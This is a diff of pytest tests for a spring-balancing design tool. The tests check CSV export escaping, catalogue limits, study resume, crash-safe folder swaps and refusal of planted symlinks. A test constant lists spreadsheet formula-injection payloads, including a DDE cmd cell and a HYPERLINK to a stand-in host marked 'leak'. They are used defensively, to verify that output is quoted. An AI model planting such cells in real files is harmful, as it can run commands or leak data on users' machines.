@@ -304,7 +304,7 @@ def test_set_reads_an_array_as_toml_and_an_entry_by_its_index(capsys):
     file = PROBLEMS / "yasir2019_counter_mass.toml"
     code, lines, _ = _main(["validate", str(file), "--set", "gravity.direction=[0, 1, 0]", "--set", "subsystems.leg.coordinates.theta_a.range.0=60 deg"], capsys)
     assert code == 0, lines
-    from counterpoise.cli.light import coerce
+    from counterpoise.cli.run import coerce
 
     problem = load_problem(file, {"gravity.direction": coerce("[0, 1, 0]"), "subsystems.leg.coordinates.theta_a.range.0": "60 deg"})
     assert all(tuple(s.gravity.direction) == (0.0, 1.0, 0.0) for s in problem.scenarios)
@@ -492,3 +492,362 @@ def test_an_ended_pool_worker_leaves_no_unfinished_report_folder(tmp_path):
         stop_pool(pool, finished=False)
     assert not temp.exists()
     assert list(out.iterdir()) == []
+
+
+# -- issue 32: nothing silently wrong III -------------------------------------------------------
+
+#: text cells a spreadsheet runs as formulas (OWASP, CSV injection)
+INJECTIONS = ("=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?leak", "click")', "+1+cmd", "-2+3+cmd", "@SUM(1+1)*cmd")
+
+
+def _formula_cells(folder: Path) -> list[tuple[str, str]]:
+    """(file, cell) of every CSV cell under ``folder`` that a spreadsheet would run: one
+    beginning with = + - @ tab or CR that is not a number."""
+    import csv
+    import re
+
+    number = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
+    found = []
+    for path in sorted(folder.rglob("*.csv")):
+        with path.open(encoding="utf-8", newline="") as handle:
+            for row in csv.reader(handle):
+                found += [(path.name, c) for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not number.fullmatch(c)]
+    return found
+
+
+def _hostile_lamp(folder: Path) -> Path:
+    """problems/lamp_catalogue.toml with formula text in the descriptions (names are
+    identifiers: the loader refuses '=' in one) and a copy of the shipped catalogue whose
+    every part number begins with one of the formula characters."""
+    import csv
+    import re
+
+    from counterpoise.catalogue.reader import shipped_catalogue_path
+
+    with shipped_catalogue_path().open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.reader(handle))
+    with (folder / "parts.csv").open("w", encoding="utf-8", newline="") as handle:
+        csv.writer(handle).writerows([rows[0]] + [[INJECTIONS[i % len(INJECTIONS)] + f"#{i}", *r[1:]] for i, r in enumerate(rows[1:])])
+    text = (PROBLEMS / "lamp_catalogue.toml").read_text(encoding="utf-8").replace('file = "shipped"', 'file = "parts.csv"')
+    # the upper spring turned by 180 deg about the elbow (pulley below it, string behind it):
+    # the same lengths at every angle, and negative numbers in the reports
+    text = text.replace('h_2 = { value = "50 mm"', 'h_2 = { value = "-50 mm"')
+    text = re.sub(r'(\[variables\.a_2\]\s*)lower = "100 mm"\s*upper = "250 mm"\s*initial = "150 mm"', r'\1lower = "-250 mm"\nupper = "-100 mm"\ninitial = "-150 mm"', text)
+    assert 'upper = "-100 mm"' in text
+    hostile = iter(INJECTIONS * 20)
+    text = re.sub(r'description = "[^"\n]*"', lambda _: "description = " + __import__("json").dumps(next(hostile)), text)
+    path = folder / "lamp.toml"
+    path.write_text(text, encoding="utf-8")
+    return path
+
+
+def test_no_csv_cell_runs_as_a_spreadsheet_formula(tmp_path, capsys):
+    """Item 5: descriptions and part numbers beginning with = + - @ reached design.csv,
+    springs.csv and build.csv as they were. Every CSV the solve and a study write now holds
+    them behind a single quote; numbers stay numbers (a negative one too); and a part number
+    read back (frames --design) is the catalogue's own."""
+    import csv
+
+    file = _hostile_lamp(tmp_path)
+    code, lines, _ = _main(["solve", str(file), "--out", str(tmp_path / "out")], capsys)
+    assert code == 0, lines
+    folder = tmp_path / "out" / "lamp_catalogue"
+    assert {"design.csv", "springs.csv", "build.csv"} <= {p.name for p in folder.iterdir()}
+    assert _formula_cells(tmp_path / "out") == []
+    with (folder / "design.csv").open(encoding="utf-8", newline="") as handle:
+        design = list(csv.DictReader(handle))
+    parts = {r["name"]: r["value"] for r in design if r["kind"] == "part"}
+    assert parts and all(p.startswith("'") and p[1:].startswith(tuple(s[0] for s in INJECTIONS)) for p in parts.values()), parts
+    assert any(r["description"].startswith("'=") for r in design), design
+    a_2 = next(r for r in design if r["name"] == "a_2")
+    assert float(a_2["value"]) < 0 and float(a_2["lower"]) == -250  # a negative number is written as a number
+    with (folder / "build.csv").open(encoding="utf-8", newline="") as handle:
+        build = [c for r in csv.reader(handle) for c in r]
+    assert any(c.startswith("-") and float(c) < 0 for c in build)
+    code, lines, out = _main(["frames", str(file), "--design", str(folder), "--csv"], capsys)
+    assert code in (0, None) and all(f"{slot}: {number[1:]}" in lines[0] for slot, number in parts.items()), lines
+    assert _formula_cells(tmp_path / "out") == []
+    code, lines, _ = _main(["study", str(file), "--vary", "m_head=400 g:450 g:2", "--jobs", "1", "--no-plot", "--out", str(tmp_path / "study")], capsys)
+    assert code == 0, lines
+    assert _formula_cells(tmp_path / "study") == []
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+cmd", "'+cmd"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("'=x", "''=x"),  # already behind a quote: one more, so the reader gets it back exactly
+        ("-12.5", "-12.5"),  # a number written as text stays a number
+        ("+3", "+3"),
+        ("-1e-05", "-1e-05"),
+        ("plain", "plain"),
+        ("'quoted", "'quoted"),
+        (-12.5, -12.5),
+    ],
+)
+def test_a_formula_cell_gets_a_quote_and_reads_back(value, cell):
+    from counterpoise.report.files import cell_text, spreadsheet_cell
+
+    assert spreadsheet_cell(value) == cell
+    if isinstance(value, str):
+        assert cell_text(cell) == value
+
+
+@pytest.mark.parametrize("where", ["row", "header"])
+def test_a_catalogue_field_over_the_csv_limit_names_its_row_and_column(tmp_path, capsys, where):
+    """Item 11: a field longer than the csv module's limit (131,072 characters) was exit 3
+    ("field larger than field limit"); now one line naming the row and the column, exit 2,
+    nothing written. The file: tests/bad_problems/catalogues/good.csv with a long material."""
+    import csv
+
+    good = (ROOT / "tests" / "bad_problems" / "catalogues" / "good.csv").read_text(encoding="utf-8").splitlines()
+    long = "x" * (csv.field_size_limit() + 10)
+    lines = [good[0] + f",{long}", *good[1:]] if where == "header" else [good[0], good[1], good[1].replace("P-1", "P-2").replace("music wire", f'"{long}"')]
+    (tmp_path / "long.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
+    toml = (ROOT / "tests" / "bad_problems" / "catalogue_negative_rate.toml").read_text(encoding="utf-8")
+    (tmp_path / "p.toml").write_text(toml.replace("catalogues/negative_rate.csv", "long.csv"), encoding="utf-8")
+    code, lines, _ = _main(["solve", str(tmp_path / "p.toml"), "--out", str(tmp_path / "out")], capsys)
+    expected = {
+        "row": f"row 2 (line 3), column material: a field of {len(long):,} characters",
+        "header": f"header, column 10: a field of {len(long):,} characters",
+    }[where]
+    assert code == 2 and len(lines) == 1 and lines[0].startswith(f"{tmp_path / 'p.toml'}: catalogues.parts.file: {tmp_path / 'long.csv'}: {expected}"), lines
+    assert not (tmp_path / "out").exists()
+
+
+def _tree(folder: Path) -> dict[str, bytes]:
+    """Every file under ``folder`` (links not followed) and its bytes: what a refused command must leave as it was."""
+    return {str(p.relative_to(folder)): (b"-> " + os.readlink(p).encode() if p.is_symlink() else p.read_bytes() if p.is_file() else b"/")
+            for p in sorted(folder.rglob("*"))}
+
+
+@pytest.mark.parametrize("change", ["set", "file", "catalogue"])
+def test_resume_refuses_a_study_of_another_problem(tmp_path, capsys, change):
+    """Item 2: --resume compared the plan and the columns only: a study of --set b_c=100 mm
+    resumed with b_c = 200 mm (or the file edited) mixed both problems' rows in one
+    study.csv. The study records its problem's content key; another problem is one line
+    saying what differs, exit 2, nothing written."""
+    import shutil
+
+    file = tmp_path / "holder.toml"
+    if change == "catalogue":
+        shutil.copy(ROOT / "tests" / "bad_problems" / "catalogues" / "good.csv", tmp_path / "parts.csv")
+        toml = (ROOT / "tests" / "bad_problems" / "catalogue_negative_rate.toml").read_text(encoding="utf-8")
+        file.write_text("# a problem with a catalogue\n" + toml.split("\n", 1)[1].replace("catalogues/negative_rate.csv", "parts.csv"), encoding="utf-8")
+    else:
+        shutil.copy(PROBLEMS / "yasir2019_counter_mass.toml", file)
+    out = tmp_path / "out"
+    args = ["study", str(file), "--vary", "m_c=300 g:400 g:2", "--jobs", "1", "--no-plot", "--out", str(out)]
+    first = ["--set", "parameters.b_c.value=100 mm"] if change == "set" else []
+    code, lines, _ = _main([*args, *first], capsys)
+    assert code == 0, lines
+    before = _tree(out)
+    if change == "set":
+        again = ["--set", "parameters.b_c.value=200 mm"]
+        what = "holds a study run with --set parameters.b_c.value=100 mm, this run has --set parameters.b_c.value=200 mm"
+    elif change == "file":
+        again = []
+        file.write_text(file.read_text(encoding="utf-8").replace('b_c = { value = "200 mm"', 'b_c = { value = "150 mm"'), encoding="utf-8")
+        what = "holds a study of another version of the problem file (it was edited since)"
+    else:
+        again = []
+        (tmp_path / "parts.csv").write_text((tmp_path / "parts.csv").read_text(encoding="utf-8").replace(",500,", ",600,"), encoding="utf-8")
+        what = "holds a study of another problem content (a file the problem reads, such as a catalogue or a robot model, changed)"
+    code, lines, _ = _main([*args, *again, "--resume"], capsys)
+    folder = out / "yasir2019_counter_mass-study"
+    assert code == 2 and lines == [
+        f"{file}: --resume: {folder} {what}: --resume continues a study of the same problem only; run without --resume to start again"
+    ], lines
+    assert _tree(out) == before
+
+
+def test_resume_of_the_same_problem_by_another_path_continues(tmp_path, capsys, monkeypatch):
+    """The key is the problem's content wherever its files lie: the same file given by a
+    relative path from its folder resumes the study (nothing to run again)."""
+    out = tmp_path / "out"
+    args = ["--vary", "m_c=300 g:400 g:2", "--jobs", "1", "--no-plot", "--out", str(out), "--set", "parameters.b_c.value=150 mm"]
+    code, lines, _ = _main(["study", str(PROBLEMS / "yasir2019_counter_mass.toml"), *args], capsys)
+    assert code == 0, lines
+    monkeypatch.chdir(PROBLEMS)
+    code, lines, _ = _main(["study", "yasir2019_counter_mass.toml", *args, "--resume"], capsys)
+    assert code == 0, lines
+
+
+def _two_studies(tmp_path):
+    """A finished study of the pendulum and a second plan for the same folder."""
+    from counterpoise.studies.spec import plan_study
+    from counterpoise.studies.study import run_study
+
+    problem = _pendulum()
+    first = run_study(problem, plan_study(problem, ["m=500 g:900 g:5"], "f"), tmp_path, batch_size=2)
+    return problem, first.folder, (first.folder / "study.csv").read_text(encoding="utf-8"), plan_study(problem, ["m=400 g:600 g:3"], "f")
+
+
+def test_a_signal_between_the_renames_of_the_final_swap_keeps_the_earlier_study(tmp_path, monkeypatch):
+    """Item 3: SIGTERM (an exception in the main thread) after the earlier study was moved
+    aside and before the new one was moved in deleted the earlier study. Now it is put back,
+    the new one stays in .partial, and --resume finishes the swap."""
+    from counterpoise.studies import study as module
+    from counterpoise.studies.command import StudyTerminated
+    from counterpoise.studies.study import read_rows, run_study
+
+    problem, folder, before, second = _two_studies(tmp_path)
+    real = os.rename
+    calls = []
+
+    def rename(src, dst):
+        calls.append((Path(src).name, Path(dst).name))
+        if Path(src).name.endswith(".partial"):
+            raise StudyTerminated()  # the signal arrives just before the new study is moved in
+        return real(src, dst)
+
+    monkeypatch.setattr(module.os, "rename", rename)
+    with pytest.raises(StudyTerminated):
+        run_study(problem, second, tmp_path, batch_size=2)
+    monkeypatch.setattr(module.os, "rename", real)
+    assert calls[0] == ("pendulum-study", ".pendulum-study.old")  # the earlier study was moved aside first
+    assert (folder / "study.csv").read_text(encoding="utf-8") == before
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["pendulum-study", "pendulum-study.partial"]
+    resumed = run_study(problem, second, tmp_path, resume=True, batch_size=2)
+    assert resumed.skipped == 3 and resumed.run == 0
+    assert [r["m [g]"] for r in read_rows(folder / "study.csv")] == ["400", "500", "600"]
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["pendulum-study"]
+
+
+@pytest.mark.parametrize("killed", ["after moving aside", "while removing"])
+def test_a_kill_during_the_final_swap_loses_no_study(tmp_path, monkeypatch, killed):
+    """Item 3, a process killed outright (no clean-up runs): between moving the earlier study
+    aside and moving the new one in, the earlier one is aside and the next study into the
+    folder puts it back; while removing the earlier one, the new one is in, and the leftover
+    is removed."""
+    from counterpoise.studies import study as module
+    from counterpoise.studies.study import read_rows, run_study
+
+    problem, folder, before, second = _two_studies(tmp_path)
+
+    class Killed(BaseException):
+        pass
+
+    real_rename, real_rmtree = os.rename, module.shutil.rmtree
+
+    def rename(src, dst):
+        if Path(src).name.endswith(".partial"):
+            raise Killed()
+        return real_rename(src, dst)
+
+    def rmtree(path, *args, **kwargs):
+        if Path(path).name.endswith(".old"):
+            raise Killed()
+        return real_rmtree(path, *args, **kwargs)
+
+    monkeypatch.setattr(module, "_recover", lambda folder: None)  # killed: no clean-up runs
+    if killed == "after moving aside":
+        monkeypatch.setattr(module.os, "rename", rename)
+    else:
+        monkeypatch.setattr(module.shutil, "rmtree", rmtree)
+    with pytest.raises(Killed):
+        run_study(problem, second, tmp_path, batch_size=2)
+    monkeypatch.undo()
+    aside = tmp_path / ".pendulum-study.old"
+    if killed == "after moving aside":
+        assert not folder.exists() and (aside / "study.csv").read_text(encoding="utf-8") == before
+        run_study(problem, second, tmp_path, resume=True, batch_size=2)  # puts it back, then swaps
+    else:
+        assert (aside / "study.csv").read_text(encoding="utf-8") == before and [r["m [g]"] for r in read_rows(folder / "study.csv")] == ["400", "500", "600"]
+        run_study(problem, second, tmp_path, resume=True, batch_size=2)
+    assert [r["m [g]"] for r in read_rows(folder / "study.csv")] == ["400", "500", "600"]
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["pendulum-study"]
+
+
+@pytest.mark.parametrize("planted", ["lock", "partial", "folder", "aside"])
+def test_a_planted_link_beside_a_study_is_refused(tmp_path, capsys, planted):
+    """Item 4: a symbolic link at the study's lock file had its target truncated and
+    overwritten (opened without O_NOFOLLOW); one at <problem>-study.partial made the study
+    write study.csv and study.json into its target. Any link where the study writes is now
+    one line naming it, exit 2, and the target is left as it was."""
+    file = PROBLEMS / "yasir2019_counter_mass.toml"
+    out, victim = tmp_path / "out", tmp_path / "victim"
+    victim.mkdir()
+    (victim / "precious.txt").write_text("keep me\n", encoding="utf-8")
+    args = ["study", str(file), "--vary", "m_c=300 g:400 g:2", "--jobs", "1", "--no-plot", "--out", str(out)]
+    if planted in ("partial", "aside"):  # they are used when the folder holds a study
+        code, lines, _ = _main(args, capsys)
+        assert code == 0, lines
+    name = "yasir2019_counter_mass-study"
+    link = out / {"lock": f".{name}.lock", "partial": f"{name}.partial", "folder": name, "aside": f".{name}.old"}[planted]
+    out.mkdir(exist_ok=True)
+    link.symlink_to(victim / "precious.txt" if planted == "lock" else victim)
+    before, outside = _tree(out), _tree(victim)
+    code, lines, _ = _main(args, capsys)
+    assert code == 2 and len(lines) == 1, lines
+    assert lines[0].startswith(f"{file}: --out: '{link}' is a symbolic link (to '{os.readlink(link)}')"), lines
+    assert _tree(victim) == outside and _tree(out) == before
+
+
+def test_a_planted_link_at_a_report_folder_is_refused(tmp_path, capsys):
+    """Item 4, the solve: a link at <out>/<problem> is one line naming it, exit 2; neither
+    its target nor the link is changed."""
+    file = PROBLEMS / "yasir2019_counter_mass.toml"
+    out, victim = tmp_path / "out", tmp_path / "victim"
+    victim.mkdir()
+    (victim / "precious.txt").write_text("keep me\n", encoding="utf-8")
+    out.mkdir()
+    link = out / "yasir2019_counter_mass"
+    link.symlink_to(victim)
+    code, lines, _ = _main(["solve", str(file), "--out", str(out)], capsys)
+    assert code == 2 and lines[-1].startswith(f"{file}: --out: '{link}' is a symbolic link (to '{victim}')"), lines
+    assert _tree(victim) == {"precious.txt": b"keep me\n"} and _tree(out) == {"yasir2019_counter_mass": b"-> " + str(victim).encode()}
+
+
+def test_many_tilt_axes_are_refused_at_once(tmp_path, capsys):
+    """Item 9: tilts multiply the scenarios by 3 per axis with no cap (20 axes: 3^20 scenarios,
+    a MemoryError, exit 3; 10 axes: validate ran over 120 s). Now one line with the count
+    and what to change, exit 2, before any scenario is made."""
+    text = (PROBLEMS / "tilt_counter_mass_arm.toml").read_text(encoding="utf-8")
+    start = text.index("tilt = [")
+    end = text.index("\n]\n", start) + 3
+    axes = "".join(f'  {{ axis = [1, {i}, 0], range = ["-15 deg", "15 deg"] }},\n' for i in range(20))
+    (tmp_path / "tilts.toml").write_text(text[:start] + "tilt = [\n" + axes + "]\n" + text[end:], encoding="utf-8")
+    started = time.perf_counter()
+    code, lines, _ = _main(["validate", str(tmp_path / "tilts.toml")], capsys)
+    assert code == 2 and lines == [
+        f"{tmp_path / 'tilts.toml'}: gravity.tilt: 20 tilt ranges give 3^20 = 3,486,784,401 tilt nodes: 3,486,784,401 balance scenarios, "
+        "more than the 81 designed at once (MAX_SCENARIOS, counterpoise/model/tilt.py); use fewer tilt axes, fix a tilt at one angle "
+        "(range = ['5 deg', '5 deg']: one node)"
+    ], lines
+    assert time.perf_counter() - started < 60  # it ran out of memory before; the cap is checked before the grid is made
+
+
+def test_building_many_scenarios_says_so(monkeypatch):
+    """Item 9: three tilts on a catalogue problem ran 392 s with no output; the build of the
+    balance conditions (≈ 30 s for 27 scenarios) ran outside every progress phase. It is now
+    a phase of its own: past SLOW_PHASE_S it says so on a terminal (here a sink that asks
+    for timed notes, with the threshold at 0 s)."""
+    from counterpoise import progress
+    from counterpoise.io.loader import load_problem
+    from counterpoise.pipeline import build_method
+
+    problem = load_problem(PROBLEMS / "tilt_counter_mass_arm.toml")
+    monkeypatch.setattr(progress, "SLOW_PHASE_S", 0.0)
+    lines: list[str] = []
+    with progress.sink(lines.append, timed=True):
+        build_method(problem)
+    assert lines[0] == "tilt_counter_mass_arm: building the balance conditions of 9 scenarios ..."
+    assert lines[1].startswith("tilt_counter_mass_arm: building the balance conditions of 9 scenarios: done in ")
+
+
+def test_status_txt_ends_with_a_newline_whatever_wrote_its_last_line(monkeypatch):
+    """Printing and reading: status.txt had no final newline. Each layer adds its own lines
+    (parts, payload, robust, warnings); the file ends with one whichever wrote last, here a
+    layer whose text lacks it."""
+    from conftest import solved
+    from counterpoise.report import files, parts
+
+    monkeypatch.setattr(parts, "designed_status", lambda result: "designed spring: a line without its newline")
+    text = files.report_texts(solved("yasir2019_counter_mass"), warnings=())["status.txt"]
+    assert text.endswith("designed spring: a line without its newline\n")
